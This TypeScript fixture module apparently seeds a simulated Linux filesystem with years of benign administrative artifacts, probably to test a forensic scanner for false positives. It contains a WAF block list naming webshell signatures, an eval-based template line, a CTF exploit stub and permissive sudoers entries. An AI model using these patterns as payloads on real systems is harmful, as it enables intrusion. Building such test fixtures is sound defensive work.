/** Years of use: backups of other machines, roots of others, tools of all makers, captures of an administrator, caches of frameworks, agents, games. Nothing of it is an intruder's. */

import { gzipSync } from 'node:zlib';
import type { Tree } from '../tree.ts';

const ada = { owner: 'ada' } as const;
const deploy = { owner: 'deploy' } as const;
const www = { owner: 'www-data' } as const;
const run = { mode: 0o755 } as const;
const stamp = (seconds: number): string => new Date(seconds * 1000).toISOString().replace('Z', '000+00:00');
const start = Date.UTC(2025, 9, 25) / 1000;

export function older(tree: Tree): void {
	accounts(tree);
	backups(tree);
	otherRoots(tree);
	tools(tree);
	captures(tree);
	caches(tree);
	servers(tree);
	desktops(tree);
	logs(tree);
}

function accounts(tree: Tree): void {
	tree.inside('useradd', '-r', '-M', '-c', 'Zabbix', '-s', '/bin/bash', '-d', '/var/lib/zabbix', 'zabbix');
	tree.inside('useradd', '-r', '-m', '-c', 'Nagios', '-s', '/bin/bash', '-d', '/var/lib/nagios', 'nagios');
	tree.inside('useradd', '-r', '-m', '-c', 'Jenkins', '-s', '/bin/bash', '-d', '/var/lib/jenkins', 'jenkins');
	tree.inside('useradd', '-r', '-m', '-c', 'Steam', '-s', '/bin/bash', '-d', '/home/steam', 'steam');
	tree.write('/var/lib/nagios/.ssh/id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n', { owner: 'nagios', mode: 0o600 });
	tree.write('/var/lib/nagios/.ssh/known_hosts', '10.0.0.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHosts\n', { owner: 'nagios', mode: 0o600 });
	tree.mode('/var/lib/nagios/.ssh', 0o700);
	tree.write('/var/lib/jenkins/.ssh/known_hosts', 'github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHosts\n', { owner: 'jenkins', mode: 0o644 });
	tree.write('/var/lib/jenkins/.bash_history', 'cd workspace\nls\n', { owner: 'jenkins', mode: 0o600 });
	tree.write('/var/lib/jenkins/jobs/site/config.xml', '<project><builders><hudson.tasks.Shell><command>npm ci\nnpm test\ncurl -fsS https://deploy.example.org/hook</command></hudson.tasks.Shell></builders></project>\n', { owner: 'jenkins' });
	tree.write('/var/lib/jenkins/init.groovy.d/executors.groovy', 'import jenkins.model.*\nJenkins.instance.setNumExecutors(4)\n', { owner: 'jenkins' });
	tree.write('/var/lib/sudo/lectured/ada', '', { mode: 0o600, group: 'ada' });
	tree.write('/etc/sudoers.d/50-own-tools', 'Defaults:ada timestamp_timeout=15\nDefaults env_keep += "LANG LC_ALL EDITOR SSH_AUTH_SOCK"\nDefaults lecture=always, lecture_file=/etc/sudo.lecture\nDefaults passwd_timeout=0, insults\nzabbix ALL=(root) NOPASSWD: /usr/bin/lsof, /usr/local/sbin/audit-ports\n%developers ALL=(deploy) NOPASSWD: ALL\njenkins ALL=(deploy) NOPASSWD: /usr/local/bin/deploy-site\ngrace ALL=(root) sudoedit /etc/nginx/sites-available/*\n', { mode: 0o440 });
	tree.write('/etc/sudo.lecture', 'You are root now. Be careful.\n');
	tree.write('/etc/pam.d/own-vpn2', 'auth required pam_google_authenticator.so nullok secret=${HOME}/.google_authenticator\n@include common-account\nsession required pam_mkhomedir.so skel=/etc/skel umask=0077\n');
	tree.write('/etc/pam_radius_auth.conf', '127.0.0.1 secret 1\nradius.example.org secret 3\n', { mode: 0o600 });
	tree.write('/etc/krb5.keytab', Buffer.from('0502000000360001000b4558414d504c452e4f5247', 'hex'), { mode: 0o600 });
	tree.write('/etc/nslcd.conf', 'uri ldaps://ldap.example.org/\nbase dc=example,dc=org\n', { mode: 0o640 });
	tree.write('/etc/security/opasswd', 'ada:1000:1:$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyz\n', { mode: 0o600 });
}

/** What rsync pulled from others holds whole systems' settings, programs and logs. */
function backups(tree: Tree): void {
	const at = '/srv/backup/web2/2025-10-01';
	for (const [from, to] of [['/etc/passwd', 'etc/passwd'], ['/etc/ssh/sshd_config', 'etc/ssh/sshd_config'], ['/etc/crontab', 'etc/crontab'], ['/etc/sudoers', 'etc/sudoers'], ['/etc/pam.d/common-auth', 'etc/pam.d/common-auth'], ['/usr/bin/passwd', 'usr/bin/passwd'], ['/usr/bin/ls', 'usr/bin/ls'], ['/bin/bash', 'usr/bin/bash']] as const) tree.copy(from, `${at}/${to}`);
	tree.copy('/etc/shadow', `${at}/etc/shadow`, { mode: 0o640, group: 'shadow' });
	tree.mode(`${at}/usr/bin/passwd`, 0o4755);
	tree.write(`${at}/root/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOther ada@laptop\n', { mode: 0o600 });
	tree.write(`${at}/root/.bash_history`, 'ls\n', { mode: 0o600 });
	tree.write(`${at}/var/log/auth.log`, Array.from({ length: 50 }, (_, n) => `${stamp(start + n * 600)} web2 sshd[${n}]: Failed password for root from 198.51.100.${n} port 4000 ssh2\n`).join(''), { mode: 0o640, group: 'adm' });
	tree.write(`${at}/var/log/wtmp`, Buffer.alloc(384 * 3));
	tree.write(`${at}/var/www/site/index.php`, "<?php\nrequire 'wp-load.php';\n", www);
	tree.write(`${at}/etc/cron.d/backup`, '0 3 * * * root /usr/local/sbin/backup\n');
	tree.dir('/srv/backup/web2', { mode: 0o700 });
	tree.write('/srv/backup/restic/config', Buffer.alloc(155, 0x8f), { mode: 0o400 });
	tree.write('/srv/backup/restic/data/0a/0a1b2c', Buffer.alloc(5000, 0x9c), { mode: 0o400 });
	tree.write('/root/.config/rclone/rclone.conf', '[b2]\ntype = b2\naccount = 0a1b\nkey = x\n', { mode: 0o600 });
	tree.write('/root/.config/borg/keys/srv_borg', 'BORG_KEY 0a1b\n', { mode: 0o600 });
	tree.copy('/usr/bin/xz', '/opt/restic/restic_0.16.4_linux_amd64', run);
	tree.link('/opt/restic/restic_0.16.4_linux_amd64', '/usr/local/bin/restic');
	tree.write('/etc/systemd/system/restic.service', '[Unit]\nDescription=Backup\nOnFailure=mail-failure@%n.service\n[Service]\nType=oneshot\nEnvironmentFile=/root/.restic.env\nExecStartPre=/usr/local/bin/restic unlock\nExecStart=/usr/local/bin/restic backup --exclude-caches /etc /home /srv\nExecStartPost=/usr/local/bin/restic forget --prune --keep-daily 7\nExecStopPost=/bin/sh -c \'[ "$SERVICE_RESULT" = success ] && curl -fsS -m 10 https://hc-ping.example.org/restic\'\n');
	tree.write('/etc/systemd/system/mail-failure@.service', "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'systemctl status --full \"%i\" | mail -s \"%i failed\" root'\n");
	tree.write('/root/.restic.env', 'RESTIC_REPOSITORY=/srv/backup/restic\nRESTIC_PASSWORD_FILE=/root/.restic-pass\n', { mode: 0o600 });
	tree.write('/var/backups/etc.bak/sudoers.d/deploy', 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx\n', { mode: 0o440 });
}

/** Roots within the root: of containers, of builders, of a chroot for sftp and for a name server. */
function otherRoots(tree: Tree): void {
	const lxc = '/var/lib/lxc/mail/rootfs';
	for (const name of ['su', 'passwd', 'bash', 'ls', 'sshd'].filter(one => tree.has(`/usr/bin/${one}`))) tree.copy(`/usr/bin/${name}`, `${lxc}/usr/bin/${name}`);
	tree.write(`${lxc}/etc/passwd`, 'root:x:0:0:root:/root:/bin/bash\nmail:x:8:8::/var/mail:/usr/sbin/nologin\n');
	tree.write(`${lxc}/etc/shadow`, 'root::20000:0:99999:7:::\n', { mode: 0o640, group: 'shadow' });
	tree.write(`${lxc}/etc/cron.d/mail`, '*/5 * * * * root /usr/local/bin/queue\n');
	tree.write(`${lxc}/root/.bashrc`, 'alias ls=ls\n');
	tree.write('/var/lib/lxc/mail/config', 'lxc.uts.name = mail\nlxc.rootfs.path = dir:/var/lib/lxc/mail/rootfs\nlxc.net.0.type = veth\nlxc.net.0.link = br0\nlxc.start.auto = 1\nlxc.mount.entry = /srv/mail srv/mail none bind,create=dir 0 0\nlxc.hook.pre-start = /usr/local/sbin/after-upgrade\n');
	tree.write('/etc/systemd/nspawn/build.nspawn', '[Exec]\nBoot=yes\n[Files]\nBind=/srv/build:/build\n[Network]\nVirtualEthernet=yes\n');
	tree.write('/var/lib/machines/build/etc/os-release', 'ID=debian\n');
	tree.copy('/usr/bin/ls', '/var/lib/machines/build/usr/bin/ls');
	tree.node('/var/lib/machines/build/dev/null', 'c', 1, 3, { mode: 0o666 });
	tree.node('/srv/chroot/bind/dev/null', 'c', 1, 3, { mode: 0o666 });
	tree.node('/srv/chroot/bind/dev/random', 'c', 1, 8, { mode: 0o666 });
	tree.write('/srv/chroot/bind/etc/named.conf', 'options { directory "/var/cache/bind"; };\n');
	tree.write('/var/lib/docker/volumes/db/_data/ibdata1', Buffer.alloc(4000, 1), { owner: 999, group: 999 });
	tree.write('/var/lib/docker/volumes/web/_data/wp-content/uploads/2025/a.jpg', Buffer.from('ffd8ffe000104a464946', 'hex'), { owner: 33 });
	tree.write('/etc/systemd/system/container-db.service', '[Unit]\nDescription=Podman container-db.service\n[Service]\nRestart=on-failure\nExecStartPre=/bin/rm -f %t/%n.ctr-id\nExecStart=/usr/bin/podman run --cidfile=%t/%n.ctr-id --cgroups=no-conmon --rm --sdnotify=conmon -d --replace --name db -v db:/var/lib/postgresql/data docker.io/library/postgres:16\nExecStop=/usr/bin/podman stop --ignore --cidfile=%t/%n.ctr-id\n');
}

function tools(tree: Tree): void {
	tree.write('/opt/zulu-21/release', 'JAVA_VERSION="21"\n');
	tree.copy('/usr/bin/xz', '/opt/zulu-21/bin/java', run);
	tree.copy('/lib/x86_64-linux-gnu/libz.so.1.2.13', '/opt/zulu-21/lib/server/libjvm.so');
	tree.write('/etc/profile.d/jdk.sh', 'export JAVA_HOME=/opt/zulu-21 PATH="$PATH:/opt/zulu-21/bin"\nexport JAVA_TOOL_OPTIONS="-javaagent:/opt/newrelic/newrelic.jar"\n');
	tree.write('/etc/profile.d/tools.sh', 'export PYTHONPATH=/opt/ownlib GOPATH=/srv/go EDITOR=vim VISUAL=/usr/bin/vim.tiny LESS=-R\nexport GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=accept-new"\nexport HISTIGNORE="ls:cd:exit" HISTFILE=~/.bash_history_long\n[ -d /opt/intel ] && . /opt/intel/setvars.sh >/dev/null 2>&1\ncommand -v kubectl >/dev/null && source <(kubectl completion bash)\n');
	tree.write('/opt/newrelic/newrelic.jar', Buffer.from('504b0304', 'hex'));
	tree.write('/home/ada/.config/go/env', 'GOPROXY=https://proxy.golang.org,direct\nGOFLAGS=-mod=mod\n', ada);
	tree.write('/home/ada/.gradle/init.gradle', 'allprojects { repositories { mavenLocal(); mavenCentral() } }\n', ada);
	tree.write('/home/ada/.gemrc', ':sources:\n- https://rubygems.org/\ngem: --no-document\n', ada);
	tree.write('/home/deploy/.npmrc', 'registry=https://npm.example.org/\n//npm.example.org/:_authToken=${NPM_TOKEN}\nignore-scripts=true\n', { ...deploy, mode: 0o600 });
	tree.write('/srv/www/app/.yarnrc.yml', 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n', deploy);
	tree.write('/srv/www/app/node_modules/sharp/package.json', '{"name":"sharp","scripts":{"install":"node install/check.js || npm run build","postinstall":"node scripts/postinstall.js"}}\n', deploy);
	tree.write('/srv/www/app/node_modules/core-js/package.json', '{"name":"core-js","scripts":{"postinstall":"node -e \\"try{require(\'./postinstall\')}catch(e){}\\""}}\n', deploy);
	tree.write('/srv/www/app/node_modules/cross-spawn/index.js', "const cp = require('child_process');\nmodule.exports = (c, a, o) => cp.spawn(c, a, o);\nmodule.exports.sync = (c, a, o) => cp.spawnSync(c, a, o);\nconst env = Object.assign({}, process.env);\n", deploy);
	tree.write('/srv/www/app/node_modules/ejs/lib/ejs.js', "exports.compile = function (src) { var fn = new Function('locals', src); return fn; };\nvar b = Buffer.from('aGVsbG8=', 'base64').toString();\n", deploy);
	tree.write('/srv/www/website/composer.json', '{"require":{"php":">=8.1"},"scripts":{"post-install-cmd":["@php artisan package:discover"],"post-update-cmd":"@php artisan vendor:publish"}}\n', deploy);
	tree.write('/home/ada/src/site/.vscode/tasks.json', '{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"npm run dev","runOptions":{"runOn":"folderOpen"}}]}\n', ada);
	tree.write('/home/ada/src/site/.envrc', 'layout node\nexport DATABASE_URL=postgres://localhost/site\nsource_env_if_exists .envrc.local\n', ada);
	tree.write('/home/ada/src/site/.pre-commit-config.yaml', 'repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: bash -c "npm test"\n', ada);
	tree.write('/home/ada/src/tool/.git/config', '[core]\n\trepositoryformatversion = 0\n[gpg]\n\tprogram = gpg2\n[diff]\n\texternal = difft\n[include]\n\tpath = ../.gitconfig.shared\n[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n', ada);
	tree.write('/home/ada/src/tool/.git/hooks/pre-commit', "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nINSTALL_PYTHON=/home/ada/.local/share/pipx/venvs/pre-commit/bin/python\nexec \"$INSTALL_PYTHON\" -mpre_commit hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit -- \"$@\"\n", { ...ada, ...run });
	tree.write('/home/ada/.aws/config', '[default]\nregion = eu-central-1\ncredential_process = /usr/local/bin/aws-vault exec main --json\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.kube/config', 'apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [eks, get-token]\n', { ...ada, mode: 0o600 });
	tree.copy('/usr/bin/xz', '/home/ada/.docker/cli-plugins/docker-buildx', { ...ada, ...run });
	tree.write('/home/ada/.gnupg/gpg-agent.conf', 'pinentry-program /usr/bin/pinentry-curses\ndefault-cache-ttl 3600\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.netrc', 'machine git.example.org login ada password x\nmacdef up\nbinary\nput $1\n\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.fetchmailrc', 'poll mail.example.org protocol IMAP user "ada" ssl preconnect "ssh -f -L 1430:localhost:143 mail.example.org sleep 20"\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.lessfilter', '#!/bin/sh\ncase "$1" in *.md) pandoc -t plain "$1" ;; *) exit 1 ;; esac\n', { ...ada, ...run });
	tree.write('/home/ada/.config/fish/functions/ll.fish', 'function ll\n  ls -alF $argv\nend\n', ada);
	tree.write('/home/ada/.emacs.d/init.el', "(require 'package)\n(add-to-list 'package-archives '(\"melpa\" . \"https://melpa.org/packages/\"))\n(when (file-exists-p custom-file) (load custom-file))\n(setq x (shell-command-to-string \"git rev-parse HEAD\"))\n", ada);
	tree.write('/home/ada/.vim/after/plugin/own.vim', "set nomodeline\nautocmd BufWritePost *.py silent! call system('black ' . expand('%'))\n", ada);
	tree.write('/home/ada/.config/tmux/tmux.conf', "set -g @plugin 'tmux-plugins/tpm'\nrun '~/.tmux/plugins/tpm/tpm'\nset -g status-right '#(uptime | cut -d, -f1)'\n", ada);
	tree.write('/home/grace/.oh-my-zsh/custom/own.zsh', 'alias gs="git status"\nsource <(helm completion zsh)\n', { owner: 'grace' });
	tree.write('/home/ada/.viminfo', "# This viminfo file was generated by Vim 9.0.\n'0  1  0  ~/notes\n'1  9  4  /etc/nginx/sites-available/blog\n'2  9  4  /var/www/blog/wp-config.php\n", { ...ada, mode: 0o600 });
	tree.write('/root/.viminfo', "# This viminfo file was generated by Vim 9.0.\n'0  1  0  /etc/ssh/sshd_config\n'1  9  4  /etc/passwd\n'2  1  0  /etc/crontab\n", { mode: 0o600 });
	tree.write('/root/.mysql_history', '_HiStOrY_V2_\nshow\\040databases;\nselect * from users into outfile "/var/lib/mysql-files/users.csv";\n', { mode: 0o600 });
	tree.write('/root/.my.cnf', '[client]\nuser=root\npassword=x\n[mysql]\npager = less -S\n', { mode: 0o600 });
	tree.write('/home/steam/.steam/steamcmd/linux32/steamcmd', tree.read('/usr/bin/xz'), { owner: 'steam', ...run });
	tree.copy('/usr/bin/xz', '/usr/local/games/nethack', { mode: 0o2755, group: 'games' });
	tree.write('/var/games/nethack/record', '', { owner: 'games', mode: 0o664 });
	tree.copy('/usr/bin/xz', '/home/ada/miniconda3/envs/ml/lib/libcudart.so.12', ada);
	tree.write('/usr/local/lib/python3.11/dist-packages/coloredlogs.pth', "import os; exec('try: __import__(\"coloredlogs\").auto_install() if \"COLOREDLOGS_AUTO_INSTALL\" in os.environ else None\\nexcept ImportError: pass')\n");
	tree.copy('/lib/x86_64-linux-gnu/libz.so.1.2.13', '/usr/local/lib/x86_64-linux-gnu/libown.so.3', {});
	tree.write('/usr/local/share/perl/5.36.0/Own/Report.pm', 'package Own::Report; use strict; sub run { return `uptime`; } 1;\n');
	tree.capability('/usr/local/bin/node_exporter', 'cap_net_raw+ep');
	tree.capability('/opt/metrics/bin/agent', 'cap_net_bind_service,cap_sys_ptrace+ep');
}

/** What an administrator recorded of his own network and kept at home. */
function captures(tree: Tree): void {
	const pcap = Buffer.concat([Buffer.from('d4c3b2a1020004000000000000000000ffff000001000000', 'hex'), Buffer.alloc(400)]);
	tree.write('/home/ada/captures/voip 2025-09.pcap', pcap, ada);
	tree.write('/root/dns.pcap', pcap, { mode: 0o600 });
	tree.write('/home/ada/captures/arp.txt', '10:11:12.123456 ARP, Request who-has 10.0.0.9 tell 10.0.0.5, length 28\n10:11:12.123500 IP 10.0.0.5.22 > 10.0.0.7.51000: Flags [P.], seq 1:37, ack 1, win 501, length 36\n', ada);
	tree.write('/home/ada/notes/strace of app.txt', 'execve("/usr/bin/node", ["node", "server.js"], 0x7ffd /* 20 vars */) = 0\nread(3, "\\177ELF", 4) = 4\n', ada);
	tree.write('/home/ada/notes/hosts.txt', '10.0.0.9 nas\n10.0.0.12 db\n', ada);
	tree.write('/home/ada/src/ctf/exploit.py', 'from pwn import *\np = remote("ctf.example.org", 1337)\np.interactive()\n', ada);
	tree.write('/home/ada/bin/nmap-lan', '#!/bin/sh\nnmap -sn 10.0.0.0/24\n', { ...ada, ...run });
}

/** Compiled templates and proxies, as frameworks write them: code made by code. */
function caches(tree: Tree): void {
	tree.write('/srv/www/app/var/cache/prod/twig/3a/3a1b.php', "<?php\n\nuse Twig\\Environment;\n\n/* base.html.twig */\nclass __TwigTemplate_3a1b extends Template\n{\n    protected function doDisplay(array $context, array $blocks = [])\n    {\n        echo twig_escape_filter($this->env, $_GET['page'] ?? '', 'html');\n    }\n}\n", www);
	tree.write('/srv/www/app/storage/framework/views/9f8e.php', "<?php $__env->startSection('content'); ?>\n<?php echo e(request('q')); ?>\n<?php eval('?>' . $inline); ?>\n<?php $__env->stopSection(); ?>\n", www);
	tree.write('/srv/www/app/bootstrap/cache/services.php', "<?php return array ('providers' => array (0 => 'Illuminate\\\\Auth\\\\AuthServiceProvider'));\n", www);
	tree.write('/var/www/blog/wp-content/cache/smarty/templates_c/0a1b^0.file.index.tpl.php', "<?php\n/* Smarty version 4.3.0 */\nif ($_smarty_tpl->_decodeProperties($_smarty_tpl, array ('version' => '4.3.0'))) {\nfunction content_64f_1 (Smarty_Internal_Template $_smarty_tpl) {\necho htmlspecialchars((string)$_GET['id'], ENT_QUOTES);\n}\n}\n", www);
	tree.write('/var/www/blog/wp-content/plugins/wordfence/waf/bootstrap.php', "<?php\n// patterns of what is refused\n$rules = array('eval(base64_decode(', 'system($_GET', 'assert($_POST', 'FilesMan');\nforeach ($rules as $r) { if (isset($_SERVER['REQUEST_URI']) && strpos($_SERVER['REQUEST_URI'], $r) !== false) { http_response_code(403); exit; } }\n", www);
	tree.write('/var/www/blog/wordfence-waf.php', "<?php\n// Before removing this file, please verify the PHP ini setting `auto_prepend_file` does not point to this.\nif (file_exists(__DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php')) {\n\tdefine(\"WFWAF_LOG_PATH\", __DIR__.'/wp-content/wflogs/');\n\tinclude_once __DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php';\n}\n", www);
	tree.write('/var/www/shop/.user.ini', "; Wordfence WAF\nauto_prepend_file = '/var/www/blog/wordfence-waf.php'\n; END Wordfence WAF\n", www);
	tree.write('/var/www/blog/wp-content/object-cache.php', "<?php\n/* Plugin Name: Redis Object Cache Drop-In */\nfunction wp_cache_get($k, $g = '') { global $c; return unserialize(gzuncompress($c->get($k))); }\n", www);
	tree.write('/var/lib/php/sessions/sess_0a1b2c3d4e5f6a7b8c9d0e1f', 'user|s:3:"ada";cart|a:0:{}', { ...www, mode: 0o600 });
}

function servers(tree: Tree): void {
	tree.write('/etc/apache2/sites-available/intern.conf', 'RewriteEngine On\nRewriteMap lc int:tolower\nRewriteMap hosts txt:/etc/apache2/hosts.map\n<Directory /var/www/intern>\n\t<FilesMatch "\\.php$">\n\t\tSetHandler "proxy:unix:/run/php/php-fpm.sock|fcgi://localhost"\n\t</FilesMatch>\n</Directory>\nCustomLog "|/usr/bin/rotatelogs /var/log/apache2/intern.%Y-%m.log 86400" combined\n');
	tree.write('/etc/apache2/envvars', 'export APACHE_RUN_USER=www-data\nexport APACHE_RUN_GROUP=www-data\nexport LANG=C\n[ -f /etc/default/locale ] && . /etc/default/locale\n');
	tree.write('/etc/nginx/snippets/php.conf', 'fastcgi_param PHP_VALUE "memory_limit=512M\\nupload_max_filesize=64M";\nfastcgi_param PHP_ADMIN_VALUE "open_basedir=/var/www/:/tmp/";\n');
	tree.write('/etc/nginx/conf.d/banner.conf', "sub_filter '</body>' '<script async src=\"https://stats.example.org/matomo.js\"></script></body>';\nsub_filter_once on;\n");
	tree.write('/etc/php/8.2/fpm/pool.d/app.conf', '[app]\nuser = deploy\nlisten = /run/php/app.sock\nlisten.owner = www-data\npm = ondemand\npm.max_children = 5\nphp_admin_value[error_log] = /var/log/app-php.log\nenv[PATH] = /usr/local/bin:/usr/bin:/bin\n');
	tree.write('/etc/php/8.2/fpm/conf.d/30-preload.ini', 'opcache.preload=/srv/www/app/config/preload.php\nopcache.preload_user=www-data\nzend_extension=xdebug.so\nxdebug.client_host=10.0.0.7\n');
	tree.write('/etc/haproxy/haproxy.cfg', 'global\n  lua-load /etc/haproxy/cors.lua\n  stats socket /run/haproxy/admin.sock mode 660\nbackend db\n  option external-check\n  external-check command /usr/local/sbin/audit-ports\n');
	tree.write('/etc/squid/conf.d/own.conf', 'auth_param basic program /usr/lib/squid/basic_ncsa_auth /etc/squid/passwd\nurl_rewrite_program /usr/bin/squidGuard -c /etc/squidguard/squidGuard.conf\n');
	tree.write('/etc/unbound/unbound.conf.d/own.conf', 'server:\n  interface: 10.0.0.5\nforward-zone:\n  name: "."\n  forward-tls-upstream: yes\n  forward-addr: 9.9.9.9@853#dns.quad9.net\n');
	tree.write('/etc/dnsmasq.d/lan.conf', 'address=/nas.example.org/10.0.0.9\naddress=/doubleclick.net/0.0.0.0\nserver=/example.org/10.0.0.1\ndhcp-script=/usr/local/sbin/after-upgrade\n');
	tree.write('/etc/dhcp/dhcpd.conf', 'subnet 10.1.0.0 netmask 255.255.255.0 {\n  option domain-name-servers 10.0.0.1, 9.9.9.9;\n  on commit { execute("/usr/local/sbin/after-upgrade", "commit"); }\n}\n');
	tree.write('/etc/postfix/main.cf', 'myhostname = server.example.org\nmailbox_command = /usr/bin/procmail -a "$EXTENSION"\nalways_bcc = archive@example.org\nsmtpd_milters = unix:opendkim/opendkim.sock\n');
	tree.write('/etc/dovecot/conf.d/99-own.conf', 'auth_verbose = yes\npassdb {\n  driver = pam\n  args = dovecot\n}\nplugin { sieve_extprograms = +vnd.dovecot.execute }\n');
	tree.write('/etc/aliases', 'root: ada\npostmaster: root\nwww: root\nlist: "|/usr/bin/procmail -t"\nown-list: "|/var/lib/mailman3/bin/mailman post own-list"\nown-list-request: "|/usr/lib/mailman/mail/mailman request own-list"\nticket: "|/opt/otrs/bin/otrs.Console.pl Maint::PostMaster::Read"\n');
	tree.write('/etc/monit/conf.d/own', 'check process nginx with pidfile /run/nginx.pid\n  start program = "/usr/bin/systemctl start nginx"\n  stop program = "/usr/bin/systemctl stop nginx"\n  if failed port 443 protocol https then restart\ncheck program backup with path "/usr/local/sbin/backup --check"\n');
	tree.write('/etc/watchdog.conf', 'watchdog-device = /dev/watchdog\nmax-load-1 = 24\ntest-binary = /usr/local/sbin/audit-ports\nrepair-binary = /usr/sbin/repair\n');
	tree.write('/etc/nut/upsmon.conf', 'MONITOR ups@localhost 1 upsmon x primary\nSHUTDOWNCMD "/sbin/shutdown -h +0"\nNOTIFYCMD /sbin/upssched\nNOTIFYCMD "/usr/local/bin/report.py"\n');
	tree.write('/etc/ipsec.conf', 'conn office\n  left=10.0.0.5\n  right=198.51.100.1\n  leftupdown=/usr/lib/ipsec/_updown iptables\n  auto=start\n');
	tree.write('/etc/tinc/own/tinc-up', '#!/bin/sh\nip addr add 10.5.0.1/24 dev $INTERFACE\nip link set $INTERFACE up\n', run);
	tree.write('/etc/stunnel/redis.conf', '[redis]\naccept = 6380\nconnect = 127.0.0.1:6379\ncert = /etc/ssl/private/site.pem\n');
	tree.write('/etc/xinetd.d/proxy', 'service proxy\n{\n\ttype = UNLISTED\n\tport = 8022\n\tsocket_type = stream\n\twait = no\n\tuser = nobody\n\tredirect = 10.0.0.9 22\n\tonly_from = 10.0.0.0/8\n}\n');
	tree.write('/etc/tor/torrc', 'SocksPort 9050\nHiddenServiceDir /var/lib/tor/site\nHiddenServicePort 80 127.0.0.1:80\n');
	tree.write('/etc/salt/minion.d/master.conf', 'master: salt.example.org\n');
	tree.write('/etc/ansible/ansible.cfg', '[defaults]\ninventory = ./hosts\ncallback_plugins = ./plugins/callback\nretry_files_enabled = False\nlibrary = /usr/share/ansible/own\n');
	tree.write('/etc/facter/facts.d/site.sh', '#!/bin/sh\necho "site=$(hostname -d)"\n', run);
	tree.write('/etc/ansible/facts.d/role.fact', '#!/bin/sh\necho \'{"role":"web"}\'\n', run);
	tree.write('/etc/etckeeper/commit.d/90push', '#!/bin/sh\nset -e\n[ "$VCS" = git ] && git push -q origin || true\n', run);
	tree.write('/etc/logcheck/ignore.d.server/own', '^\\w{3} [ :[:digit:]]{11} [._[:alnum:]-]+ sshd\\[[[:digit:]]+\\]: Connection closed by [[:xdigit:].:]+ port [[:digit:]]+ \\[preauth\\]$\n^.* systemd\\[1\\]: Started .*$\n');
	tree.write('/etc/fail2ban/filter.d/app.local', '[Definition]\nfailregex = ^.* login failed from <HOST>$\nignoreregex =\n');
	tree.write('/etc/clamav/clamd.conf', 'LocalSocket /run/clamav/clamd.ctl\nExcludePath ^/proc/\nExcludePath ^/sys/\nVirusEvent /usr/local/bin/report.py\n');
	tree.write('/var/ossec/etc/ossec.conf', '<ossec_config><syscheck><directories>/etc,/usr/bin</directories><ignore>/etc/mtab</ignore><ignore type="sregex">.log$|.swp$</ignore></syscheck><localfile><log_format>full_command</log_format><command>netstat -tulpn | sort</command></localfile></ossec_config>\n');
	tree.write('/etc/debsums-ignore', '^/usr/share/locale/.*\n^/etc/.*\n');
	tree.write('/etc/logrotate.d/own-size', '/var/log/own/size.log {\n\tsize 10M\n\trotate 3\n\tcompress\n\tcompresscmd /usr/bin/zstd\n\tcompressext .zst\n\tfirstaction\n\t\ttest -d /var/log/own || exit 1\n\tendscript\n\tmail ops@example.org\n}\n');
	tree.write('/etc/syslog-ng/conf.d/own.conf', 'destination d_own { program("/usr/local/bin/report.py"); file("/var/log/own/ng.log"); };\n');
	tree.write('/etc/audit/auditd.conf', 'log_file = /var/log/audit/audit.log\nspace_left_action = email\naction_mail_acct = root\ndisk_full_action = suspend\nmax_log_file_action = rotate\n');
	tree.write('/etc/depmod.d/own.conf', 'search updates extra ubuntu built-in\noverride nvidia * updates/dkms\n');
	tree.write('/etc/modprobe.d/own-soft.conf', 'softdep nvme pre: vmd\nsoftdep snd_hda_intel pre: i915\n');
	tree.write('/etc/udev/rules.d/61-own.rules', 'KERNEL=="sd*", SUBSYSTEM=="block", ENV{DEVTYPE}=="disk", GROUP="disk", MODE="0660"\nSUBSYSTEM=="usb", ATTRS{idVendor}=="18d1", MODE="0666"\nKERNEL=="ttyUSB*", RUN{builtin}+="kmod load ftdi_sio"\nSUBSYSTEM=="block", IMPORT{program}="/usr/local/bin/report.py --udev"\n');
	tree.write('/etc/tmpfiles.d/own.conf', 'd /run/web 0755 deploy deploy -\nw /sys/kernel/mm/transparent_hugepage/enabled - - - - never\nL+ /run/motd.own - - - - /etc/motd\n');
	tree.write('/etc/sysctl.d/98-db.conf', 'kernel.shmmax = 68719476736\nfs.aio-max-nr = 1048576\nfs.suid_dumpable = 0\nkernel.core_pattern = /var/crash/core.%e.%p\n');
	tree.write('/etc/NetworkManager/conf.d/90-own.conf', '[main]\ndns=dnsmasq\n[global-dns-domain-example.org]\nservers=10.0.0.1\n');
	tree.write('/etc/resolvconf/resolv.conf.d/head', '# managed\nnameserver 127.0.0.1\n');
	tree.write('/etc/default/own', 'DAEMON_OPTS="--quiet"\n# sourced by the init script\nif [ -r /etc/default/metrics ]; then . /etc/default/metrics; fi\n');
	tree.write('/etc/initramfs-tools/conf.d/resume', 'RESUME=UUID=3aaa0122-1111-4222-8333-44445555\n');
	tree.write('/etc/grub.d/42_memtest', '#!/bin/sh\nexec tail -n +3 $0\nmenuentry "Memory test" {\n\tlinux16 /boot/memtest86+.bin\n}\n', run);
	tree.write('/boot/grub/custom.cfg', 'set menu_color_normal=white/black\nmenuentry "Old kernel" {\n\tlinux /vmlinuz.old root=/dev/sda1 ro quiet init=/lib/systemd/systemd\n\tinitrd /initrd.img.old\n}\n');
